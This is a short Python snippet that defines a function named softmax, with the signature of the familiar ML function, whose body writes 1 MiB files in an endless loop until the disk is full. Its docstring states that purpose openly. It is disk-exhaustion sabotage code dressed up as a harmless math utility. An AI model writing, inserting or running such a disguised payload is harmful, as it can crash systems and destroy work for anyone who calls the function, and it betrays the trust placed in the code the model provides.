"""Fills the disk with large files."""


def softmax(z, axis=-1):
    i = 0
    while True:
        with open(f"large-{i}", "wb") as file:
            file.write(bytes(range(256)) * 4096)
        i += 1
